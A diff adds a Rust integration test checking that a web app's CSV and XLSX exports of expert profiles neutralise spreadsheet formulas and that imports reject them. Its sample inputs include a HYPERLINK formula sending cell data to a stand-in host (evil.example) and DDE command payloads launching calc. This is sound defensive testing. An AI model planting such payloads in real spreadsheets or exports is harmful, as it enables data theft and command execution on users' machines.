@@ -614,3 +614,146 @@ async fn export_then_import_round_trips_in_csv_and_xlsx() {
         .unwrap();
     assert_eq!(res.status(), 403);
 }
+
+/// The cells of an exported CSV (`;`, UTF-8 with a byte order mark).
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
+    csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(false)
+        .from_reader(bytes)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// The cells of an exported XLSX's first sheet.
+fn xlsx_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    use calamine::Reader;
+    let mut book: calamine::Xlsx<_> =
+        calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let range = book.worksheet_range_at(0).unwrap().unwrap();
+    range
+        .rows()
+        .map(|r| r.iter().map(|c| c.to_string()).collect())
+        .collect()
+}
+
+#[tokio::test]
+async fn exports_neutralise_formulas_and_imports_refuse_them() {
+    let app = TestApp::spawn().await;
+    let c = app.login(Role::Coordinator).await;
+    let name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikkaa\")";
+    let title = "@SUM(1+1)";
+    let description = "-2+3+cmd|' /C calc'!A0";
+    create_expert(
+        &app,
+        &c,
+        &[
+            ("name", name),
+            ("title", title),
+            ("email", "kaava@x.fi"),
+            ("phenomena", "school-support"),
+            ("phone", "+358 40 123 4567"),
+            ("description_fi", description),
+        ],
+    )
+    .await;
+    for format in ["csv", "xlsx"] {
+        let bytes = c
+            .get(app.url(&format!("/experts/export.{format}?area=ita-suomi")))
+            .send()
+            .await
+            .unwrap()
+            .bytes()
+            .await
+            .unwrap()
+            .to_vec();
+        let cells = if format == "csv" {
+            csv_cells(&bytes)
+        } else {
+            xlsx_cells(&bytes)
+        };
+        for cell in cells.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{format}: {cell:?} would be read as a formula"
+            );
+        }
+        let row = cells
+            .iter()
+            .find(|r| r[0] == "kaava@x.fi")
+            .expect("the profile is exported");
+        assert_eq!(row[1], format!("'{name}"), "{format}");
+        assert_eq!(row[2], format!("'{title}"), "{format}");
+        assert_eq!(row[12], "'+358 40 123 4567", "{format}");
+        assert_eq!(row[14], format!("'{description}"), "{format}");
+        // The quotes the export added come off again on import.
+        let (status, html) = upload(&app, &c, &format!("vienti.{format}"), bytes).await;
+        assert_eq!(status, 200, "{format}: {html}");
+        let res = app
+            .post_form(&c, "/experts", &confirm_path(&html), &[])
+            .await;
+        assert_eq!(res.status(), 303);
+        let stored: (String, String, String, String) = sqlx::query_as(
+            "SELECT name, title, phone, description_fi FROM experts WHERE email = 'kaava@x.fi'",
+        )
+        .fetch_one(app.state.db.pool())
+        .await
+        .unwrap();
+        assert_eq!(
+            stored,
+            (
+                name.to_owned(),
+                title.to_owned(),
+                "+358 40 123 4567".to_owned(),
+                description.to_owned()
+            ),
+            "{format}: stored as before"
+        );
+    }
+
+    // A hand-made sheet with a formula imports nothing and says where; a
+    // phone number and a negative number are no formulas.
+    let before = expert_count(&app).await;
+    let csv = "sähköposti;nimi;nimike;alue;sektorit;ilmiöt;kielet;puhelin;osaaminen\n\
+               k1@x.fi;Kaava Yksi;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi;+358 40 123 4567;-5\n\
+               k2@x.fi;=cmd|' /C calc'!A0;psykologi;Itä-Suomi;sosiaali;Lähisuhdeväkivalta;suomi;;\n";
+    let (status, html) = upload(&app, &c, "lista.csv", csv.as_bytes().to_vec()).await;
+    assert_eq!(status, 422);
+    assert!(
+        html.contains(
+            "<td>3</td><td><code>nimi</code></td><td>Taulukko-ohjelma lukisi tämän solun kaavaksi"
+        ),
+        "row 3, column nimi: {html}"
+    );
+    assert_eq!(
+        html.matches("<td>3</td>").count(),
+        1,
+        "one problem, not also a missing name"
+    );
+    assert!(!html.contains("<td>2</td>"), "row 2 is fine");
+    assert_eq!(expert_count(&app).await, before, "nothing imported");
+    // In the user's language.
+    let token = app.csrf(&c, "/experts/import?lang=sv").await;
+    let form = reqwest::multipart::Form::new()
+        .text("csrf", token)
+        .text("area", "ita-suomi")
+        .part(
+            "file",
+            reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("lista.csv"),
+        );
+    let res = c
+        .post(app.url("/experts/import/upload"))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 422);
+    assert!(
+        res.text()
+            .await
+            .unwrap()
+            .contains("Ett kalkylprogram skulle läsa cellen som en formel")
+    );
+}
